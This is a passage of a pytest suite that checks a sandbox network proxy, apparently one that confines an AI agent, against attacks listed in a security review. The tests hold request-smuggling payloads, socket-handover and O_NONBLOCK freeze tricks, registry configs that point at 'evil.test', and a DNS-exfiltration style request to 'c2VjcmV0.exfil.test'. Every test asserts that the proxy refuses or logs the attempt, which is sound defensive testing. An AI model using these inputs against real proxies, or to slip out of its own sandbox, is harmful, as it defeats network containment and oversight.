"""The network boundary under the second outside review's attacks, each as it was described.

Every test that starts a proxy or a sandbox runs in the isolated namespaces (the `outer`
fixture, checked with assert_inside() before anything is started): the proxy's side has no
route off this machine and the test hosts live in a namespace of their own. Sections follow
the review's numbering; docs/security-network.md lists each attack with its tests.
"""

from __future__ import annotations

import contextlib
import errno
import json
import re
import socket
import struct
import subprocess
import sys
import textwrap
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from net_ns import REMOTE_V4, IsolatedNet
from net_sandbox import (
    SessionFactory,
    answered_tty,
    client,
    exchange,
    needs_netns,
    read_all,
    run_inside,
)
from net_servers import RecordingHTTPServer, TcpRecorder

from gatekeeper.sandbox.net import NetworkSession
from gatekeeper.sandbox.net.proxy import ProxyLimits
from gatekeeper.sandbox.net.record import MAX_ENTRIES, MAX_REFUSED

from conftest import gk, make_repo
from helpers import run_json

pytest_plugins = ["net_fixtures"]
pytestmark = [needs_netns, pytest.mark.sandbox]

FAST = ProxyLimits(header_timeout=1.0, connect_timeout=2, idle_timeout=2.0)
OK_REPLY = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok"


@pytest.fixture
def lenient(outer: IsolatedNet) -> Iterator[TcpRecorder]:
    """A server that answers 200 to anything and keeps every byte it got."""
    outer.assert_inside()
    with outer.inside("remote"):
        server = TcpRecorder(REMOTE_V4, 0, reply=OK_REPLY)
    yield server
    server.close()


@pytest.fixture
def web(outer: IsolatedNet) -> Iterator[RecordingHTTPServer]:
    outer.assert_inside()
    with outer.inside("remote"):
        server = RecordingHTTPServer((REMOTE_V4, 0)).start()
    yield server
    server.close()


def open_web(start_session: SessionFactory, **network: object) -> NetworkSession:
    session, _ = start_session(
        {"arbitrary_web": "allow", **network}, names={"web.test": [REMOTE_V4]}, limits=FAST
    )
    return session


_REQUEST_LINE = re.compile(rb"^[!#$%&'*+.^_`|~0-9A-Za-z-]+ \S+ HTTP/\d\.\d$")


def lenient_request_lines(data: bytes) -> list[bytes]:
    """The request lines a server that takes a bare LF as a line end (and skips the bodies it
    cannot frame) would find in data: every line that looks like one."""
    return [line for line in data.replace(b"\r", b"").split(b"\n") if _REQUEST_LINE.match(line)]


# --- 1. request smuggling through plain-HTTP forwarding -----------------------------------------


SMUGGLING = {
    "bare LF in a header value": b"X-A: 1\nGET /evil HTTP/1.1\nHost: evil.test\r\n",
    "bare CR in a header value": b"X-A: 1\rGET /evil HTTP/1.1\r\n",
    "bare LF ends the head early": b"X-A: 1\n\nGET /evil HTTP/1.1\nHost: evil.test\r\n",
    "obs-fold": b"X-A: 1\r\n GET /evil HTTP/1.1\r\n",
    "NUL in a value": b"X-A: 1\x00\r\n",
    "repeated Content-Length": b"Content-Length: 0\r\nContent-Length: 0\r\n",
    "Content-Length list": b"Content-Length: 0, 0\r\n",
    "signed Content-Length": b"Content-Length: +0\r\n",
    "Content-Length with Transfer-Encoding": b"Content-Length: 0\r\nTransfer-Encoding: chunked\r\n",
    "chunked not last": b"Transfer-Encoding: chunked, identity\r\n",
    "chunked twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n",
    "chunked with a vertical tab": b"Transfer-Encoding: \x0bchunked\r\n",
    "Connection names Content-Length": b"Connection: Content-Length\r\nContent-Length: 5\r\n",
    "Connection names Transfer-Encoding": b"Connection: transfer-encoding\r\n",
    "Connection names Host": b"Connection: close, Host\r\n",
    "space before the colon": b"Content-Length : 0\r\n",
    "underscore look-alike": b"Transfer-Encoding: chunked\r\nContent_Length: 0\r\n",
}


@pytest.mark.parametrize("headers", list(SMUGGLING.values()), ids=list(SMUGGLING))
def test_smuggled_second_request_is_refused_with_400_and_logged(
    start_session: SessionFactory, lenient: TcpRecorder, headers: bytes
) -> None:
    session = open_web(start_session)
    head = f"POST http://web.test:{lenient.port}/first HTTP/1.1\r\n".encode()
    reply = exchange(session, head + headers + b"\r\n")
    assert reply.startswith(b"HTTP/1.1 400 "), reply
    assert lenient.connections == 0 and lenient.received == b""
    logged = [(e.host, e.port, e.decision, e.method) for e in session.recorder.entries]
    assert logged == [("web.test", lenient.port, "deny", "POST")]
    assert "400" in (session.recorder.entries[0].reason or "")


BAD_REQUEST_LINES = [
    b"GET http://web.test:PORT/a\nHost: evil.test HTTP/1.1",
    b"GET http://web.test:PORT/a\rX HTTP/1.1",
    b"GET http://web.test:PORT/a\tb HTTP/1.1",
    b"GET http://web.test:PORT/a\x00 HTTP/1.1",
]


@pytest.mark.parametrize("line", BAD_REQUEST_LINES)
def test_control_characters_in_the_request_line_are_refused(
    start_session: SessionFactory, lenient: TcpRecorder, line: bytes
) -> None:
    session = open_web(start_session)
    request = line.replace(b"PORT", str(lenient.port).encode()) + b"\r\n\r\n"
    assert exchange(session, request).startswith(b"HTTP/1.1 400 ")
    assert lenient.connections == 0
    assert [e.decision for e in session.recorder.entries] == ["deny"]


def test_chunked_body_cannot_carry_a_second_request(
    start_session: SessionFactory, lenient: TcpRecorder
) -> None:
    session = open_web(start_session)
    head = (
        f"POST http://web.test:{lenient.port}/up HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n"
    ).encode()
    bodies = [
        b"3;x\nGET /evil HTTP/1.1\nHost: evil.test\n\r\nabc\r\n0\r\n\r\n",  # LF in an extension
        b"0x3\r\nabc\r\n0\r\n\r\n",  # int(..., 16) would take it
        b"3\r\nabc\r\n0\r\nX: 1\nGET /evil HTTP/1.1\r\n\r\n",  # LF in a trailer
    ]
    for body in bodies:
        exchange(session, head + body)
    lenient.idle()
    # Whatever reached the server must parse as one request per connection, even for a
    # server that takes a bare LF as a line end.
    found = lenient_request_lines(lenient.received)
    assert all(b"/evil" not in line for line in found), lenient.received
    assert len(found) == lenient.connections


def test_a_fragment_is_not_forwarded_and_the_log_shows_what_was(
    start_session: SessionFactory, web: RecordingHTTPServer
) -> None:
    session = open_web(start_session)
    reply = exchange(
        session, f"GET http://web.test:{web.port}/page#/other HTTP/1.1\r\n\r\n".encode()
    )
    assert reply.startswith(b"HTTP/1.1 200 ")
    assert [p for _, p, _, _ in web.requests] == ["/page"]
    assert [e.path for e in session.recorder.entries] == ["/page"]


def test_an_honest_request_still_goes_through(
    start_session: SessionFactory, web: RecordingHTTPServer
) -> None:
    session = open_web(start_session)
    reply = exchange(
        session,
        f"PUT http://web.test:{web.port}/x?y=1 HTTP/1.1\r\nHost: web.test\r\n"
        "Transfer-Encoding: Chunked\r\nX-Tab: a\tb\r\nUser-Agent: t/1 (\xe9)\r\n\r\n"
        "3;name=val\r\nabc\r\n0\r\nX-Trailer: t\r\n\r\n".encode("latin-1"),
    )
    assert reply.startswith(b"HTTP/1.1 200 "), reply
    assert web.requests == [("PUT", "/x?y=1", f"web.test:{web.port}", b"abc")]


# --- 2. a handed-over socket whose sender clears O_NONBLOCK ---------------------------------------

FREEZE = textwrap.dedent("""
    import fcntl, json, os, socket, sys, threading, time, urllib.request
    port, count = sys.argv[1], int(sys.argv[2])
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    peer = socket.create_connection(listener.getsockname())
    handed, _ = listener.accept()
    with socket.socket(socket.AF_UNIX) as unix:
        unix.connect("/run/gatekeeper/proxy.sock")
        socket.send_fds(unix, [b"\\x00"], [handed.fileno()])
    stop = time.monotonic() + 4
    def clear():  # the proxy set O_NONBLOCK on the shared file description: take it back
        while time.monotonic() < stop:
            flags = fcntl.fcntl(handed.fileno(), fcntl.F_GETFL)
            fcntl.fcntl(handed.fileno(), fcntl.F_SETFL, flags & ~os.O_NONBLOCK)
    threading.Thread(target=clear, daemon=True).start()
    time.sleep(0.3)
    peer.sendall(f"GET http://web.test:{port}/half HTTP/1.1\\r\\nHost: a".encode())
    time.sleep(0.3)
    results = {}
    def fetch(i):
        url = f"http://web.test:{port}/parallel{i}"
        try:
            with urllib.request.urlopen(url, timeout=4) as r:
                results[i] = r.status
        except Exception as exc:
            results[i] = repr(exc)
    threads = [threading.Thread(target=fetch, args=(i,)) for i in range(count)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps(results))
    sys.stdout.flush()
    time.sleep(3)  # hold the half request open past the end of the others
""")


def test_a_sender_clearing_o_nonblock_cannot_freeze_the_proxy(
    start_session: SessionFactory, outer: IsolatedNet, web: RecordingHTTPServer
) -> None:
    outer.assert_inside()
    session, setup = start_session(
        {"arbitrary_web": "allow"}, names={"web.test": [REMOTE_V4]}, limits=FAST
    )
    started = time.monotonic()
    out = run_inside(setup, [sys.executable, "-I", "-c", FREEZE, str(web.port), "5"], timeout=60)
    results = json.loads(out.stdout.strip().splitlines()[-1])
    assert results == {str(i): 200 for i in range(5)}, (results, out.stderr)
    paths = sorted(p for _, p, _, _ in web.requests)
    assert paths == [f"/parallel{i}" for i in range(5)]
    logged = sorted(e.path or "" for e in session.recorder.entries if e.decision == "allow")
    assert logged == [f"/parallel{i}" for i in range(5)]
    stopping = time.monotonic()
    session.stop()
    assert time.monotonic() - stopping < 2
    assert time.monotonic() - started < 30


def test_handed_over_descriptors_must_be_connected_tcp_streams(
    start_session: SessionFactory, web: RecordingHTTPServer
) -> None:
    session = open_web(start_session)
    refused = []
    listening = socket.socket()
    listening.bind(("127.0.0.1", 0))
    listening.listen(1)
    refused.append(listening)  # SO_ACCEPTCONN
    refused.append(socket.socket())  # not connected
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.connect(("127.0.0.1", 9))
    refused.append(udp)  # SOCK_DGRAM
    mine, theirs = socket.socketpair()
    refused.append(theirs)  # AF_UNIX
    for sock in refused:
        with client(session) as unix:
            socket.send_fds(unix, [b"\x00"], [sock.fileno()])
            assert read_all(unix) == b""
    mine.settimeout(3)
    mine.sendall(f"GET http://web.test:{web.port}/unix HTTP/1.1\r\n\r\n".encode())
    for sock in refused:
        sock.close()
    try:
        assert read_all(mine) == b""  # the proxy closed its copy without serving it
    except ConnectionResetError:
        pass  # closed with our request unread
    mine.close()
    assert web.requests == []


def hand_listener(unix: socket.socket, sock: socket.socket) -> bytes:
    """Pass sock to the proxy as the bridge passes its listener; the proxy's one-byte answer."""
    socket.send_fds(unix, [b"\x01"], [sock.fileno()])
    return unix.recv(1)


def get_through(port: int, path: str, web: RecordingHTTPServer) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(f"GET http://web.test:{web.port}{path} HTTP/1.1\r\n\r\n".encode())
        return read_all(conn)


def test_so_linger_on_a_handed_over_listener_cannot_make_a_close_wait(
    start_session: SessionFactory, web: RecordingHTTPServer, outer: IsolatedNet
) -> None:
    # SO_LINGER comes along from a listener to what is accepted from it. A listener of the
    # agent's own with a long linger, and a client that reads nothing of a flood: the close
    # at the tunnel's idle timeout waited for the client (30 s here) on the event loop, and
    # every other client waited with it.
    session = open_web(start_session)
    with outer.inside("remote"):
        flood = socket.socket()
        flood.bind((REMOTE_V4, 0))
        flood.listen(1)

    def pour() -> None:
        conn, _ = flood.accept()
        with conn, contextlib.suppress(OSError):
            conn.settimeout(10)
            conn.sendall(b"x" * (8 << 20))

    threading.Thread(target=pour, daemon=True).start()
    own = socket.socket()
    own.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 30))
    own.bind(("127.0.0.1", 0))
    own.listen(4)
    channel = client(session)
    assert hand_listener(channel, own) == b"\x00"
    reader = socket.socket()
    reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    reader.connect(own.getsockname())
    name = b"web.test"
    port = flood.getsockname()[1].to_bytes(2, "big")
    reader.sendall(b"\x05\x01\x00\x05\x01\x00\x03" + bytes([len(name)]) + name + port)  # SOCKS5
    time.sleep(FAST.idle_timeout + 1.0)  # the tunnel idles out: its close would linger now
    reply = exchange(session, f"GET http://web.test:{web.port}/after HTTP/1.1\r\n\r\n".encode())
    assert reply.startswith(b"HTTP/1.1 200 "), reply[:100]
    reader.close()
    own.close()
    channel.close()
    flood.close()


def test_a_handed_over_listener_shared_with_a_hostile_sandbox_cannot_freeze_the_proxy(
    start_session: SessionFactory, web: RecordingHTTPServer
) -> None:
    import fcntl
    import os

    session = open_web(start_session)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    port = listener.getsockname()[1]
    channel = client(session)
    assert hand_listener(channel, listener) == b"\x00"  # the launcher accepts on it now
    # We keep our copy, as an agent could: the description is shared. Clear O_NONBLOCK and
    # take a connection first, so that the proxy's accept would block on an empty queue.
    fd = listener.fileno()
    fcntl.fcntl(fd, fcntl.F_SETFL, fcntl.fcntl(fd, fcntl.F_GETFL) & ~os.O_NONBLOCK)
    stolen = socket.create_connection(("127.0.0.1", port), timeout=5)
    with contextlib.suppress(OSError):
        listener.settimeout(0.5)
        listener.accept()[0].close()
    stolen.close()
    assert get_through(port, "/after-steal", web).startswith(b"HTTP/1.1 200 ")
    # And the other way: a non-blocking description and a queue that is empty again.
    stop = time.monotonic() + 1.5

    def flip() -> None:
        while time.monotonic() < stop:
            flags = fcntl.fcntl(fd, fcntl.F_GETFL)
            fcntl.fcntl(fd, fcntl.F_SETFL, flags ^ os.O_NONBLOCK)

    flipper = threading.Thread(target=flip)
    flipper.start()
    answers = [get_through(port, f"/flip{i}", web) for i in range(5)]
    flipper.join()
    assert all(a.startswith(b"HTTP/1.1 200 ") for a in answers), answers
    logged = sorted(e.path or "" for e in session.recorder.entries if e.decision == "allow")
    assert logged == ["/after-steal", *(f"/flip{i}" for i in range(5))]
    stopping = time.monotonic()
    session.stop()
    assert time.monotonic() - stopping < 2
    with pytest.raises(OSError):  # stopping the session shut the listener down
        get_through(port, "/late", web)
    listener.close()
    channel.close()


def test_a_listener_is_served_only_while_the_channel_that_brought_it_is_open(
    start_session: SessionFactory, web: RecordingHTTPServer
) -> None:
    session = open_web(start_session)
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(16)
    port = listener.getsockname()[1]
    channel = client(session)
    assert hand_listener(channel, listener) == b"\x00"
    assert get_through(port, "/open", web).startswith(b"HTTP/1.1 200 ")
    channel.close()  # the bridge ended (with its sandbox): no thread is left accepting
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        try:
            socket.create_connection(("127.0.0.1", port), timeout=1).close()
        except (ConnectionRefusedError, ConnectionResetError):
            break  # shut down (with or without this one in its queue): not listening any more
        time.sleep(0.05)
    else:
        pytest.fail("the launcher still listens after the channel closed")
    # Its accepting thread ends soon after (it may be between two polls when shut down).
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline and [
        t for t in threading.enumerate() if t.name == "gatekeeper-accept" and t.is_alive()
    ]:
        time.sleep(0.05)
    assert not [t for t in threading.enumerate() if t.name == "gatekeeper-accept" and t.is_alive()]
    listener.close()


def test_only_tcp_listeners_are_taken_and_only_a_few(
    start_session: SessionFactory, web: RecordingHTTPServer
) -> None:
    session = open_web(start_session)
    mine, theirs = socket.socketpair()
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    unbound = socket.socket()
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen(1)
        connected = socket.create_connection(server.getsockname())
    unix_listener = socket.socket(socket.AF_UNIX)
    unix_listener.bind(str(session.net_dir / "other.sock"))
    unix_listener.listen(1)
    channel = client(session)
    for sock in (theirs, udp, unbound, connected, unix_listener):
        assert hand_listener(channel, sock) == b"\x01", sock
    listeners = []
    for _ in range(5):
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        sock.listen(1)
        listeners.append(sock)
    answers = [hand_listener(channel, sock) for sock in listeners]
    assert answers == [b"\x00"] * 4 + [b"\x01"]  # a bounded number of accepting threads
    for sock in (mine, theirs, udp, unbound, connected, unix_listener, *listeners, channel):
        sock.close()
    assert web.requests == []


# --- 3. socket families a network namespace does not isolate ---------------------------------

FAMILIES = textwrap.dedent("""
    import json, socket
    results = {}
    for name, family, kind in [
        ("vsock", 40, socket.SOCK_STREAM), ("vsock_dgram", 40, socket.SOCK_DGRAM),
        ("bluetooth", 31, socket.SOCK_STREAM), ("can", 29, socket.SOCK_RAW),
        ("tipc", 30, socket.SOCK_RDM), ("rds", 21, socket.SOCK_SEQPACKET),
        ("packet", 17, socket.SOCK_DGRAM), ("alg", 38, socket.SOCK_SEQPACKET),
        ("unix", socket.AF_UNIX, socket.SOCK_STREAM), ("inet", socket.AF_INET, socket.SOCK_STREAM),
        ("inet6", socket.AF_INET6, socket.SOCK_DGRAM), ("netlink", 16, socket.SOCK_RAW),
    ]:
        try:
            socket.socket(family, kind).close()
            results[name] = "created"
        except OSError as exc:
            results[name] = exc.errno
    try:
        a, b = socket.socketpair(40, socket.SOCK_STREAM)
        results["socketpair_vsock"] = "created"
    except OSError as exc:
        results["socketpair_vsock"] = exc.errno
    a, b = socket.socketpair()
    results["socketpair_unix"] = "created"
    print("FAMILIES", json.dumps(results))
""")


def test_vsock_and_other_unisolated_families_fail_inside_a_run(
    tmp_path: Path, key: Path, outer: IsolatedNet
) -> None:
    repo = make_repo(tmp_path / "r", files={"families.py": FAMILIES})
    outer.assert_inside()
    proc, _ = run_json(repo, "python3", "families.py")
    line = next(x for x in proc.stderr.splitlines() if x.startswith("FAMILIES "))
    results = json.loads(line.split(" ", 1)[1])
    refused = ["vsock", "vsock_dgram", "bluetooth", "can", "tipc", "rds", "packet", "alg"]
    assert {name: results[name] for name in refused} == dict.fromkeys(
        refused, errno.EAFNOSUPPORT
    ), results
    assert results["socketpair_vsock"] == errno.EAFNOSUPPORT
    for name in ("unix", "inet", "inet6", "netlink", "socketpair_unix"):
        assert results[name] == "created", results


# --- 4. the host's own interface addresses are localhost ------------------------------------------

SELF_V4, SELF_V6 = "192.88.99.7", "2620:4f:8000:7::7"  # global: "public" to the proxy


@contextlib.contextmanager
def extra_address(outer: IsolatedNet) -> Iterator[None]:
    """One more interface with its own address on the proxy's side (the "host"): a veth pair
    with both ends in the isolated namespace (no dummy driver needed), removed after."""
    outer.assert_inside()

    def ip(*args: str) -> None:
        subprocess.run(["ip", "-n", outer.outer, *args], check=True, capture_output=True)

    ip("link", "add", "gkself0", "type", "veth", "peer", "name", "gkself1")
    try:
        ip("addr", "add", f"{SELF_V4}/32", "dev", "gkself0")
        ip("-6", "addr", "add", f"{SELF_V6}/128", "dev", "gkself0", "nodad")
        ip("link", "set", "gkself0", "up")
        ip("link", "set", "gkself1", "up")
        yield
    finally:
        ip("link", "del", "gkself0")


@pytest.fixture
def second_address(outer: IsolatedNet) -> Iterator[None]:
    with extra_address(outer):
        yield


@pytest.mark.parametrize("where", [SELF_V4, SELF_V6, f"{SELF_V6}%1", "self.test", "0.0.0.0", "::"])
def test_the_hosts_own_interface_address_is_localhost(
    start_session: SessionFactory, second_address: None, where: str
) -> None:
    service = RecordingHTTPServer(("::", 0)).start()  # a host service on every address
    try:
        session, _ = start_session(
            {"arbitrary_web": "allow", "internal_services": "allow", "localhost": "deny"},
            names={"self.test": [SELF_V4]},
        )
        shown = f"[{where}]" if ":" in where else where
        reply = exchange(session, f"GET http://{shown}:{service.port}/ HTTP/1.1\r\n\r\n".encode())
        assert reply.startswith(b"HTTP/1.1 403 "), reply
        entry = session.recorder.entries[0]
        assert (entry.category, entry.decision) == ("localhost", "deny")
        assert service.connections == 0
    finally:
        service.close()


def test_a_grant_on_the_hosts_own_address_still_opens_it(
    start_session: SessionFactory, second_address: None
) -> None:
    service = RecordingHTTPServer((SELF_V4, 0)).start()
    try:
        session, _ = start_session(
            {"localhost": "deny"}, grants=[f"network={SELF_V4}:{service.port}"]
        )
        reply = exchange(session, f"GET http://{SELF_V4}:{service.port}/ HTTP/1.1\r\n\r\n".encode())
        assert reply.startswith(b"HTTP/1.1 200 "), reply
        assert session.recorder.entries[0].category == "localhost"
    finally:
        service.close()


def test_an_address_the_host_gains_during_the_run_is_localhost_too(
    start_session: SessionFactory, outer: IsolatedNet
) -> None:
    session, _ = start_session({"arbitrary_web": "allow", "localhost": "deny"})
    with extra_address(outer):
        service = RecordingHTTPServer(("::", 0)).start()
        try:
            for where in (SELF_V4, f"[{SELF_V6}]"):
                reply = exchange(
                    session, f"GET http://{where}:{service.port}/ HTTP/1.1\r\n\r\n".encode()
                )
                assert reply.startswith(b"HTTP/1.1 403 "), reply
            assert {e.category for e in session.recorder.entries} == {"localhost"}
            assert service.connections == 0
        finally:
            service.close()


# --- 5. files in the repository never widen the network policy ------------------------------------

WIDENING = {
    ".npmrc": "registry=http://evil.test/\nregistry=*.test\n@x:registry=http://evil.test/\n",
    ".yarnrc.yml": "npmRegistryServer: http://evil.test/\n",
    "uv.toml": 'index-url = "http://evil.test/simple"\n',
    "pyproject.toml": '[tool.uv]\nindex-url = "http://evil.test/simple"\n'
    '[[tool.poetry.source]]\nname = "x"\nurl = "http://evil.test/"\n',
    ".cargo/config.toml": '[registries.x]\nindex = "sparse+http://evil.test/index/"\n',
}


def test_a_committed_npmrc_does_not_make_a_host_a_package_registry(
    tmp_path: Path, start_session: SessionFactory
) -> None:
    project = tmp_path / "worktree"
    for name, text in WIDENING.items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(text)
    home = tmp_path / "home"
    home.mkdir()
    (home / ".npmrc").write_text("registry=*.test\n")  # not even the user's own file widens
    session, _ = start_session(
        {"package_registry": "allow", "arbitrary_web": "deny"},
        project=project,
        env={"HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config")},
    )
    assert session.rules.registries == []
    reply = exchange(session, b"GET http://evil.test/pkg HTTP/1.1\r\n\r\n")
    assert reply.startswith(b"HTTP/1.1 403 ")
    entry = session.recorder.entries[0]
    assert (entry.host, entry.category, entry.decision) == ("evil.test", "arbitrary_web", "deny")


def test_a_committed_npmrc_does_not_widen_a_real_run(
    tmp_path: Path, key: Path, outer: IsolatedNet
) -> None:
    fetch = (
        "import urllib.request, urllib.error\n"
        "try:\n    urllib.request.urlopen('http://evil.test/pkg', timeout=5)\n"
        "except urllib.error.HTTPError as e:\n    print('STATUS', e.code)\n"
    )
    repo = make_repo(
        tmp_path / "r",
        policy="network: {package_registry: allow, arbitrary_web: deny}\n",
        files={**WIDENING, "fetch.py": fetch},
    )
    outer.assert_inside()
    proc, data = run_json(repo, "python3", "fetch.py")
    assert "STATUS 403" in proc.stderr, proc.stderr
    shown = gk_receipt(repo, data["commit"])
    assert [(n["host"], n["category"], n["decision"]) for n in shown["network"]] == [
        ("evil.test", "arbitrary_web", "deny")
    ]


def gk_receipt(repo: Path, commit: str) -> dict:  # type: ignore[type-arg]
    proc = gk("receipt", "show", "--repo", str(repo), "--json", commit)
    assert proc.returncode == 0, proc.stderr
    return json.loads(proc.stdout)[0]["statement"]["predicate"]


# --- 6. a flood of refused attempts -------------------------------------------------------------


def test_a_flood_of_direct_connects_is_aggregated_capped_and_linear(
    start_session: SessionFactory,
) -> None:
    from gatekeeper.sandbox.net.record import MAX_SUMMARY_LINES

    session, _ = start_session({})
    started = time.monotonic()
    for i in range(100_000):  # as the runner feeds the supervisor's connect events
        session.record_direct_attempt("198.51.100.9", 443, 7)  # the same attempt, repeated
        session.record_direct_attempt("198.51.100.10", 1 + i % 65535, 7)  # distinct ports
    summary = session.denied_summary()
    requests, _ = session.stop()
    assert time.monotonic() - started < 15  # a list scan per attempt took minutes
    assert len(requests) == MAX_REFUSED + 1  # refusals take half of the list's room
    first = requests[0]
    assert (first.host, first.port, first.count) == ("198.51.100.9", 443, 100_000)
    assert first.last_time is not None and first.last_time >= (first.time or "")
    overflow = requests[-1]
    assert overflow.decision == "not-recorded"
    # every attempt is counted once: in its entry, or in the overflow entry
    assert sum(r.count or 1 for r in requests[:-1]) + (overflow.count or 0) == 200_000
    assert requests[1].count == 2  # port 1 came round again
    assert len(summary) == MAX_SUMMARY_LINES + 1 and summary[-1].startswith("... and ")
    assert len(json.dumps([r.model_dump() for r in requests])) < 5_000_000


FLOOD = textwrap.dedent("""
    import socket, time
    stop, n = time.monotonic() + 3, 0
    while time.monotonic() < stop:
        s = socket.socket()
        try:
            s.connect(("198.51.100.10", 1 + n % 60000))
        except OSError:
            pass
        s.close()
        n += 1
    print("ATTEMPTS", n)
""")


@pytest.mark.slow
def test_a_flood_of_direct_connects_inside_a_run_keeps_the_run_on_time(
    tmp_path: Path, key: Path, outer: IsolatedNet
) -> None:
    repo = make_repo(tmp_path / "r", files={"flood.py": FLOOD})
    outer.assert_inside()
    started = time.monotonic()
    proc, data = run_json(repo, "python3", "flood.py", extra=["--timeout", "10"])
    elapsed = time.monotonic() - started
    attempts = int(next(x for x in proc.stderr.splitlines() if x.startswith("ATTEMPTS")).split()[1])
    network = gk_receipt(repo, data["commit"])["network"]
    assert elapsed < 40, (elapsed, attempts)
    assert len(network) <= 10_001
    assert attempts > 1000, attempts
    assert sum(n["count"] or 1 for n in network) == attempts


# --- 7. smaller gaps in the record and the checks -----------------------------------------------


def test_refused_socks_requests_with_malformed_names_are_logged(
    start_session: SessionFactory,
) -> None:
    session = open_web(start_session)
    for name in (b"a b!", "caf\u00e9.test".encode(), b"x\nGET / HTTP/1.1"):
        with client(session) as sock:
            sock.sendall(b"\x05\x01\x00")
            assert sock.recv(2) == b"\x05\x00"
            sock.sendall(b"\x05\x01\x00\x03" + bytes([len(name)]) + name + b"\x01\xbb")
            assert read_all(sock)[:2] == b"\x05\x01"  # general failure
    logged = [(e.method, e.port, e.decision) for e in session.recorder.entries]
    assert logged == [("SOCKS5", 443, "deny")] * 3
    assert all(h.isprintable() for h in (e.host for e in session.recorder.entries))


def test_a_name_under_internal_services_ask_is_not_resolved_before_approval(
    tmp_path: Path, outer: IsolatedNet
) -> None:
    from gatekeeper.policy.model import Policy

    outer.assert_inside()
    looked_up: list[str] = []

    def resolver(host: str, port: int) -> list[str]:
        looked_up.append(host)
        return ["10.77.0.2"]

    policy = Policy.model_validate(
        {"network": {"internal_services": "ask", "arbitrary_web": "deny"}}
    )
    session = NetworkSession(
        policy, grants=[], ask="never", run_dir=tmp_path / "run", resolver=resolver, env={}
    )
    session.start()
    try:
        reply = exchange(session, b"GET http://c2VjcmV0.exfil.test/ HTTP/1.1\r\n\r\n")
        assert reply.startswith(b"HTTP/1.1 403 ")
        assert looked_up == []  # the name itself never left through DNS
        entry = session.recorder.entries[0]
        assert (entry.category, entry.decision) == ("arbitrary_web", "deny")
        _, escalations = session.recorder.snapshot()
        assert [(e.value, e.decision) for e in escalations] == [
            ("c2vjcmv0.exfil.test:80", "pending")
        ]
    finally:
        session.stop()


def test_a_name_that_does_not_resolve_is_logged_with_its_category(
    start_session: SessionFactory,
) -> None:
    session = open_web(start_session)
    reply = exchange(session, b"GET http://unknown.test/ HTTP/1.1\r\n\r\n")
    assert reply.startswith(b"HTTP/1.1 502 ")
    entry = session.recorder.entries[0]
    assert (entry.category, entry.decision) == ("arbitrary_web", "error")


def hello_naming(*names: bytes) -> bytes:
    """A minimal TLS ClientHello whose server_name list holds names, in order."""
    listed = b"".join(b"\x00" + len(n).to_bytes(2, "big") + n for n in names)
    sni = len(listed).to_bytes(2, "big") + listed
    extensions = b"\x00\x00" + len(sni).to_bytes(2, "big") + sni
    body = b"\x03\x03" + bytes(32) + b"\x00" + b"\x00\x02\x13\x01" + b"\x01\x00"
    body += len(extensions).to_bytes(2, "big") + extensions
    handshake = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + len(handshake).to_bytes(2, "big") + handshake


def tunnel_then(session: NetworkSession, first: bytes) -> bytes:
    with client(session) as sock:
        sock.sendall(b"CONNECT allowed.test:443 HTTP/1.1\r\n\r\n")
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            head += sock.recv(1)
        assert head.startswith(b"HTTP/1.1 200 ")
        sock.sendall(first)
        try:
            return read_all(sock)
        except ConnectionResetError:
            return b""


@pytest.mark.parametrize(
    "first",
    [
        hello_naming(b"allowed.test", b"evil.test"),
        hello_naming(b"evil.test", b"allowed.test"),
        b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n",
        b"SSH-2.0-OpenSSH_9.6\r\n",
    ],
    ids=["allowed-then-other", "other-then-allowed", "plain-http-on-443", "ssh-on-443"],
)
def test_every_server_name_is_judged_and_port_443_carries_only_tls(
    start_session: SessionFactory, outer: IsolatedNet, first: bytes
) -> None:
    with outer.inside("remote"):
        upstream = TcpRecorder(REMOTE_V4, 443)
    try:
        session, _ = start_session(
            {"arbitrary_web": "deny"},
            grants=["network=allowed.test:443"],
            names={"allowed.test": [REMOTE_V4]},
            limits=FAST,
        )
        tunnel_then(session, first)
        time.sleep(0.2)
        assert upstream.received == b""
        entry = session.recorder.entries[0]
        assert entry.decision == "deny", entry
        tunnel_then(session, hello_naming(b"allowed.test"))  # the honest hello still passes
        assert upstream.received == hello_naming(b"allowed.test")
    finally:
        upstream.close()


def test_a_request_head_cut_short_is_logged_with_what_it_named(
    start_session: SessionFactory, web: RecordingHTTPServer
) -> None:
    session = open_web(start_session)
    with client(session) as sock:
        sock.sendall(f"GET http://web.test:{web.port}/slow HTTP/1.1\r\nHost: web".encode())
        assert read_all(sock).startswith(b"HTTP/1.1 408 ")
    entry = session.recorder.entries[0]
    assert (entry.host, entry.port, entry.path, entry.decision) == (
        "web.test",
        web.port,
        "/slow",
        "deny",
    )
    assert web.connections == 0


def test_a_flood_of_distinct_asked_hosts_keeps_the_escalations_bounded() -> None:
    from gatekeeper.sandbox.net.record import Recorder

    recorder = Recorder(max_entries=100)
    for i in range(1000):
        recorder.escalate(f"host{i}.test:443", "pending")
    _, escalations = recorder.snapshot()
    assert len(escalations) == 100
    assert recorder.summary()[-1] == "... and 900 more network escalations, not recorded one by one"


def test_refusals_the_agent_makes_up_cannot_hide_the_proxy_being_full() -> None:
